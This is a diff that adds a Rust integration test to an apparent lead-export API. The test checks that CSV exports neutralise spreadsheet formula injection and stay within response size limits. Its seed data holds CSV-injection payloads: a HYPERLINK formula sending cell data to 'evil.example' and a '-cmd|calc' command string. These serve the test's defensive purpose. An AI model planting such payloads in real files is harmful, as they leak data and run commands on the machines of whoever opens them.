@@ -524,3 +524,62 @@ async fn a_purchase_is_sent_again_once_per_request_key_with_a_new_link() {
         .unwrap();
     assert_eq!(other.status().as_u16(), 404);
 }
+
+#[tokio::test]
+async fn exports_are_safe_to_open_and_every_page_fits_a_lambda_response() {
+    let f = fixture(false).await;
+    // 3,000 businesses whose names are long and hostile: a formula, quotes and control
+    // characters (each JSON-escapes to more bytes), and 100 KB names.
+    f.db.admin()
+        .await
+        .execute(
+            "INSERT INTO businesses (id, tenant_id, name, name_norm, website_url, email)
+             SELECT gen_random_uuid(), $1,
+                    CASE WHEN i % 3 = 0 THEN '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")' || repeat('\"', 2000)
+                         WHEN i % 3 = 1 THEN '@SUM(1+1)' || repeat(chr(1), 2000)
+                         ELSE repeat('x', 100000) END,
+                    'n' || i, '-cmd|calc', '+1@x.example'
+             FROM generate_series(1, 3000) i",
+            &[&f.p.tenant.as_uuid()],
+        )
+        .await
+        .unwrap();
+    let (mut after, mut rows, mut pages) = (None::<String>, 0, 0);
+    loop {
+        let path = match &after {
+            Some(a) => format!("/v1/exports/leads.csv?limit=5000&after={a}"),
+            None => "/v1/exports/leads.csv?limit=5000".to_owned(),
+        };
+        let (s, h, csv) = f.call("GET", &path, Some(&f.key), None).await;
+        assert_eq!(s, 200);
+        pages += 1;
+        // What the function returns is this body inside a JSON document.
+        let as_json = serde_json::to_string(&csv).unwrap().len();
+        assert!(
+            as_json < 6 * 1024 * 1024,
+            "page {pages}: {as_json} bytes as JSON"
+        );
+        let mut r = csv::Reader::from_reader(csv.as_bytes());
+        for rec in r.records() {
+            let rec = rec.unwrap();
+            for cell in rec.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "a cell a spreadsheet would run: {:?}",
+                    &cell[..cell.len().min(40)]
+                );
+            }
+            assert!(rec[1].chars().count() <= ops_api::MAX_CELL_CHARS + 10);
+            rows += 1;
+        }
+        match h.get("x-next-after") {
+            Some(a) => after = Some(a.to_str().unwrap().to_owned()),
+            None => break,
+        }
+    }
+    assert_eq!(rows, 3000, "every row once, in {pages} pages");
+    assert!(
+        pages > 1,
+        "the size bound, not the row limit, cut the pages"
+    );
+}
